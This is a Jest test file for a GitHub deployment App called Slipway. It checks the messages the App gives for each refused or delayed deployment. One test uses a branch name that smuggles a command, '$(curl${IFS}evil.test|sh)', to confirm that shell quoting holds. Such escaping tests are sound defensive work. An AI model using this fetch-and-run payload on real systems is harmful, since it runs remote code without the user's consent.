import { expect, test } from "@jest/globals";
import { explain } from "../../src/cards/explain.ts";
import { type Reason, reasons } from "../../src/domain/reasons.ts";
import { aBecause } from "../builders/because.ts";
import { aContextLink } from "../builders/context.ts";
import { read } from "./read.ts";

/** Of every reason: what is said, what to do about it, and what is told one by one. */
const says: { readonly [R in Reason]: readonly [what: string, todo: string, ...items: readonly string[]] } = {
  permission: [
    "`eve` has the role `read` here, and this needs `write`.",
    "Ask somebody who may write to this repository.",
  ],
  permission_unknown: ["GitHub did not say what `eve` may do here.", "Comment again."],
  pull_request_closed: ["This pull request is closed.", "Reopen it, then comment again."],
  pull_request_draft: ["This pull request is a draft.", "Mark it ready for review, then comment again."],
  base_not_default: [
    "It goes into `release/1`, and only what goes into the default branch `main` is deployed.",
    "Change the base to `main`, then comment again.",
  ],
  branch_deleted: ["The branch `topic` is gone.", "Restore the branch, then comment again."],
  repository_archived: ["`acme/site` is archived.", "Unarchive it, then comment again."],
  fork: [
    "`topic` is the branch of a fork, and code from forks is not deployed here.",
    "Push the commits to a branch of this repository and open a pull request from it.",
  ],
  head_moved: [
    "The head moved from `a1b2c3d` to `0f1e2d3` while this request waited.",
    "Look at what was pushed, then comment again.",
  ],
  head_after_comment: [
    "`a1b2c3d` was pushed at 12:00 UTC on 2 Mar, after the comment was written.",
    "Look at what was pushed, then comment again.",
  ],
  head_unknown: [
    "GitHub did not say when `a1b2c3d` was pushed, so it may be later than the comment.",
    "Comment again; if this stays, push the branch once more.",
  ],
  merge_unseen: ["GitHub merged `main` in; the new head does not show yet.", "Nothing: it goes on by itself."],
  environment_busy: ["Deployment `#4300` to `staging` is running (pull request 8).", "Nothing: it goes on by itself."],
  head_young: ["`a1b2c3d` is only seconds old: its checks may be on their way.", "Nothing: it goes on by itself."],
  contexts_failing: [
    "Failing: [`ci/lint`](https://github.test/acme/site/runs/1) (timed out), `ci/test` (failure).",
    "Fix what fails or run it again, then comment again.",
  ],
  contexts_pending: [
    "Pending: [`ci/test`](https://github.test/acme/site/runs/1) (in progress). Expected, not reported yet: `ci/docs`, `ci/e2e`.",
    "Nothing: it goes on by itself.",
  ],
  contexts_disagree: ["GitHub still reports `ci/test` (pending).", "Nothing: it goes on by itself."],
  behind_unknown: ["GitHub did not say whether the branch is behind `main`.", "Comment again."],
  merge_rounds: ["`main` moved on after each of 3 merges into this branch.", "Comment again when `main` is quieter."],
  merge_conflict: [
    "`main` does not merge into `topic` without conflicts.",
    "Merge it by hand: `git fetch origin`, `git switch topic`, `git merge origin/main`, solve the conflicts and commit, `git push`. Then comment again.",
  ],
  ref_not_found: ["GitHub finds no ref `topic`.", "Restore the branch, then comment again."],
  config_broken: [
    "[`.github/slipway.yml`](https://github.test/acme/site/blob/main/.github/slipway.yml) has mistakes.",
    "Fix the file on the default branch, then comment again.",
    '[line 4, column 5](https://github.test/acme/site/blob/main/.github/slipway.yml#L4): unknown key "aproval": did you mean "approvals"? Allowed here: url, production',
    '[line 9, column 17](https://github.test/acme/site/blob/main/.github/slipway.yml#L9): "production" must be true or false, not the text "yes": write true',
  ],
  config_unreadable: [
    "The configuration could not be read (.github/slipway.yml is not text).",
    "See that it is a text file that the App may read, then comment again.",
  ],
  environment_unknown: [
    "There is no environment `stagin`: did you mean `staging`?",
    "Name one of `staging`, `production`.",
  ],
  environment_unnamed: [
    "There is no default environment here, and the command names none.",
    "Name one of `qa`, `production`, or set `default_environment`.",
  ],
  sha_differs: [
    "GitHub created the deployment for `0f1e2d3`, but `a1b2c3d` is what was checked. It was ended as `error`.",
    "Look at what was pushed, then comment again.",
  ],
  superseded: [
    "A [later comment](https://github.test/acme/site/pull/7#issuecomment-502) asked for the same environment.",
    "Nothing.",
  ],
  deadline: ["It waited 60 minutes, which is as long as this environment lets a request wait.", "Comment again."],
  unread: [
    "GitHub did not show the checks of the head (Resource not accessible by integration).",
    "Comment again; if this stays, see that the App has all its permissions.",
  ],
  setup: [
    "GitHub refused Slipway: Resource not accessible by integration.",
    "Ask an owner of the organisation, or who runs Slipway, to grant what is missing; then comment again.",
  ],
  github_refused: [
    "GitHub refused the deployment: Validation Failed.",
    "Comment again; if this stays, tell who runs Slipway.",
  ],
  github_unavailable: [
    "GitHub did not answer for as long as Slipway tries (`5f0c1d2e3a4b`).",
    "Look at the list of deployments, then comment again.",
  ],
  gate_failed: ["The gate `contexts` could not judge this.", "Comment again; if this stays, tell who runs Slipway."],
  internal: [
    "Something went wrong inside Slipway. Its log knows more under `5f0c1d2e3a4b`.",
    "Comment again; if this stays, tell who runs Slipway.",
  ],
};

test("every reason has its sentence here", () => {
  expect(Object.keys(says).sort()).toEqual(Object.keys(reasons).sort());
});

test.each(Object.keys(reasons) as Reason[])("the reason %s says what is the matter, and what to do", (reason) => {
  const { what, todo, items } = explain(aBecause(reason));
  expect([what, todo, ...items].map(read)).toEqual(says[reason]);
});

test.each(Object.keys(reasons) as Reason[])("the reason %s is a sentence, and names its gate", (reason) => {
  const { gate, what, todo } = explain(aBecause(reason));
  expect(gate).toBe(reasons[reason].gate);
  expect(read(what)).toMatch(/^[A-Z`[].*[.?]$/);
  expect(read(todo)).toMatch(/^[A-Z].*\.$/);
  expect(reasons[reason].means).toMatch(/^([A-Z]|slipway).*\.$/);
});

test("a full stop of GitHub's is not doubled", () => {
  const { what } = explain(aBecause("github_refused", { message: "Custom gate is on fire." }));
  expect(read(what)).toBe("GitHub refused the deployment: Custom gate is on fire.");
});

test("where much is failing, twenty are named and what is still pending, too", () => {
  const link = (index: number) => aContextLink({ name: `ci/${index}`, url: null });
  const failing = Array.from({ length: 5_000 }, (_, index) => link(index));
  const { what } = explain(aBecause("contexts_failing", { failing, pending: [aContextLink({ word: "queued" })] }));
  expect(read(what)).toMatch(
    /^Failing: `ci\/0` \(failure\), .*`ci\/19` \(failure\) and 4980 more\. Still pending: \[`ci\/test`/,
  );
});

test("what was waited for is told in whole minutes", () => {
  expect(read(explain(aBecause("deadline", { minutes: 1 })).what)).toMatch(/^It waited 1 minute, /);
});

test("an environment that is like no other has no suggestion", () => {
  const { what, todo } = explain(aBecause("environment_unknown", { name: "@all | x", nearest: null }));
  expect([read(what), read(todo)]).toEqual([
    "There is no environment `@all | x`.",
    "Name one of `staging`, `production`.",
  ]);
});

test("a merged pull request is not to be reopened", () => {
  const { what, todo } = explain(aBecause("pull_request_closed", { state: "merged" }));
  expect([read(what), read(todo)]).toEqual(["This pull request is merged.", "Deploy from an open pull request."]);
});

test("names of branches are safe to paste into a shell", () => {
  const conflict = aBecause("merge_conflict", { base: "main", head: "$(curl${IFS}evil.test|sh);it's" });
  expect(read(explain(conflict).todo)).toContain("`git switch '$(curl${IFS}evil.test|sh);it'\\''s'`");
});

test("a part that GitHub did not show has its reason in brackets", () => {
  const { what } = explain(aBecause("unread", { why: "it has more than 100 checks" }));
  expect(read(what)).toBe("GitHub did not show the checks of the head (it has more than 100 checks).");
});
